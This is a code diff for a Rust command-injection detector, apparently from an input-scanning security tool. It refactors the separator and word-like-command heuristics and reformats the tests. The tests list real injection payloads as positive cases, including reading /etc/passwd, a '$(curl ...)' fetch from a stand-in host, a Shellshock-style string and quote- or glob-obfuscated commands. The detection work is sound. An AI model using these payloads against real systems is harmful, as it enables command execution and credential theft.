@@ -21,58 +21,148 @@ static STRONG: Lazy = Lazy::new(concat!(
 ));
 
 pub fn detect(s: &Subject<'_>) -> Option<Hit> {
-    if let Some(m) = palisade_lexers::shell_injection(s.decoded) {
-        let msg = match &m.command {
-            Some(c) => format!("command injection ({}, runs {c})", m.reason),
-            None => format!("command injection ({})", m.reason),
-        };
-        return Some(Hit::new("cmdi", "cmdi.lexer", Severity::Critical, m.confidence.max(60), msg).near(s.decoded, 0));
+    let lexed = lexer(s);
+    if lexed.as_ref().is_some_and(|h| h.confidence >= 90) {
+        return lexed;
     }
+    let shaped = shapes(s);
+    match (lexed, shaped) {
+        (Some(l), Some(sh)) => Some(if sh.score() > l.score() { sh } else { l }),
+        (l, sh) => l.or(sh),
+    }
+}
+
+fn shapes(s: &Subject<'_>) -> Option<Hit> {
     let lower = s.lower;
-    if !lower.bytes().any(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'/' | b'(' | b'\\' | b'\'' | b'"')) {
+    if !lower.bytes().any(|b| {
+        matches!(
+            b,
+            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'/' | b'(' | b'\\' | b'\'' | b'"'
+        )
+    }) {
         return None;
     }
     if let Some(at) = STRONG.find(lower) {
-        return Some(Hit::new("cmdi", "cmdi.shape", Severity::Critical, 90, "command injection").near(lower, at));
+        return Some(
+            Hit::new(
+                "cmdi",
+                "cmdi.shape",
+                Severity::Critical,
+                90,
+                "command injection",
+            )
+            .near(lower, at),
+        );
     }
     // separators only count when the value is not prose: `dog; cat` is English
-    if let Some(at) = SEPARATED.find(lower)
-        && at_separator(lower, at)
-    {
-        return Some(Hit::new("cmdi", "cmdi.shape", Severity::Critical, 85, "command injection").near(lower, at));
+    if let Some(at) = separated(lower) {
+        return Some(
+            Hit::new(
+                "cmdi",
+                "cmdi.shape",
+                Severity::Critical,
+                85,
+                "command injection",
+            )
+            .near(lower, at),
+        );
     }
     // quote- and backslash-split commands: w'h'o'am'i, c\at
     if lower.bytes().any(|b| matches!(b, b'\'' | b'"' | b'\\')) {
-        let joined: String = lower.chars().filter(|c| !matches!(c, '\'' | '"' | '\\')).collect();
+        let joined: String = lower
+            .chars()
+            .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+            .collect();
         if joined.len() + 2 <= lower.len()
-            && let Some(at) = STRONG.find(&joined).or_else(|| SEPARATED.find(&joined).filter(|&a| at_separator(&joined, a)))
+            && let Some(at) = STRONG.find(&joined).or_else(|| separated(&joined))
         {
-            return Some(Hit::new("cmdi", "cmdi.shape", Severity::Critical, 85, "command injection split by quotes").near(&joined, at));
+            return Some(
+                Hit::new(
+                    "cmdi",
+                    "cmdi.shape",
+                    Severity::Critical,
+                    85,
+                    "command injection split by quotes",
+                )
+                .near(&joined, at),
+            );
         }
     }
     None
 }
 
-/// The match at `at` starts at a real separator with a command-like
-/// continuation, not at the start of plain words.
+/// The first separator-and-command match that passes [`at_separator`].
+fn separated(lower: &str) -> Option<usize> {
+    SEPARATED
+        .get()
+        .find_iter(lower)
+        .map(|m| m.start())
+        .find(|&at| at_separator(lower, at))
+}
+
+/// Command names that are also everyday words: after a separator they only
+/// count when what follows looks like arguments (`-x`, `/path`, `$VAR`).
+const WORDLIKE: &[&str] = &[
+    "cat", "tac", "nl", "head", "tail", "more", "less", "ls", "id", "ps", "fetch", "host", "ping",
+    "dig", "rm", "cp", "mv", "find", "sleep", "echo", "printf", "touch", "kill", "env", "set",
+    "export", "su", "sh", "nc", "node", "php", "ruby", "perl", "lua", "type", "dir", "copy", "del",
+    "start", "net", "reg", "base64", "sudo", "ssh", "telnet",
+];
+
+/// The match at `at` is a command after a real separator (or a command
+/// line at the start of the value), not the start of plain words.
 fn at_separator(lower: &str, at: usize) -> bool {
     let b = lower.as_bytes();
-    match b.get(at) {
-        Some(b';' | b'|' | b'&' | b'`' | b'\n' | b'$') => {
-            // `; cat /etc/passwd`, `| id`, but not "salt; pepper; cat food"
-            let rest = lower.get(at + 1..).unwrap_or("").trim_start();
-            let word_end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '/' && c != '_').unwrap_or(rest.len());
-            let after = rest.get(word_end..).unwrap_or("").trim_start();
-            after.is_empty() && rest.len() <= 12
-                || after.starts_with(['-', '/', '~', '.', '$', '`', '|', ';', '&', '>', '<', '\'', '"'])
-                || b.get(at) != Some(&b';')
-        }
-        // start of value: only a command with arguments that look like a command line
-        _ => {
-            let rest = lower.get(at..).unwrap_or("");
-            rest.contains(" /") || rest.contains(" -") || rest.contains('|') || rest.contains(';') || rest.contains('`') || rest.contains("$(")
-        }
+    let sep = matches!(b.get(at), Some(b';' | b'|' | b'&' | b'`' | b'\n' | b'$'));
+    let rest = if sep {
+        lower.get(at + 1..).unwrap_or("")
+    } else {
+        lower.get(at..).unwrap_or("")
+    };
+    let rest = rest.trim_start_matches(['(', '|', '&', ' ']).trim_start();
+    let word_end = rest
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '/' || c == '_' || c == '.'))
+        .unwrap_or(rest.len());
+    let word = rest.get(..word_end).unwrap_or("");
+    let cmd = word.rsplit('/').next().unwrap_or(word);
+    let after = rest.get(word_end..).unwrap_or("");
+    let args_like = {
+        let a = after.trim_start();
+        a.starts_with([
+            '-', '/', '~', '$', '`', '|', ';', '&', '>', '<', '\'', '"', '.',
+        ]) || (a.is_empty() && (!lower.contains(' ') || lower.trim_end().len() <= word_end + 3))
+            || (after.starts_with(' ')
+                && a.bytes().next().is_some_and(|c| c.is_ascii_digit())
+                && matches!(cmd, "sleep" | "ping" | "kill"))
+    };
+    if word.contains('/') {
+        // an absolute command path: /bin/cat, /usr/bin/id
+        return true;
     }
+    if !sep {
+        return args_like && !WORDLIKE.contains(&cmd)
+            || after.trim_start().starts_with(['-', '/', '$', '`']);
+    }
+    !WORDLIKE.contains(&cmd) || args_like
+}
+
+/// The lexer's verdict, as a hit.
+fn lexer(s: &Subject<'_>) -> Option<Hit> {
+    let m = palisade_lexers::shell_injection(s.decoded)?;
+    let msg = match &m.command {
+        Some(c) => format!("command injection ({}, runs {c})", m.reason),
+        None => format!("command injection ({})", m.reason),
+    };
+    Some(
+        Hit::new(
+            "cmdi",
+            "cmdi.lexer",
+            Severity::Critical,
+            m.confidence.max(60),
+            msg,
+        )
+        .near(s.decoded, 0),
+    )
 }
 
 #[cfg(test)]
@@ -82,10 +172,31 @@ mod tests {
 
     #[test]
     fn shapes() {
-        for a in ["; cat /etc/passwd", "| id", "`whoami`", "$(curl http://x.example/s.sh)", "127.0.0.1;ls -la", "a;w'h'o'am'i", "cat${IFS}/etc/passwd", "/???/c?t /???/p??s??", "() { :; }; /bin/bash -c id", "& ping -c 10 127.0.0.1 &"] {
+        for a in [
+            "; cat /etc/passwd",
+            "| id",
+            "`whoami`",
+            "$(curl http://x.example/s.sh)",
+            "127.0.0.1;ls -la",
+            "a;w'h'o'am'i",
+            "cat${IFS}/etc/passwd",
+            "/???/c?t /???/p??s??",
+            "() { :; }; /bin/bash -c id",
+            "& ping -c 10 127.0.0.1 &",
+        ] {
             assert!(run(detect, a).is_some(), "{a}");
         }
-        for b in ["salt; pepper; cat food", "Tom & Jerry", "rock | paper", "R&D; net income up", "ls", "echo park", "It's 5$ (cash)", "the cat sat", "I'd like to id myself"] {
+        for b in [
+            "salt; pepper; cat food",
+            "Tom & Jerry",
+            "rock | paper",
+            "R&D; net income up",
+            "ls",
+            "echo park",
+            "It's 5$ (cash)",
+            "the cat sat",
+            "I'd like to id myself",
+        ] {
             assert!(run(detect, b).is_none(), "{b}");
         }
     }
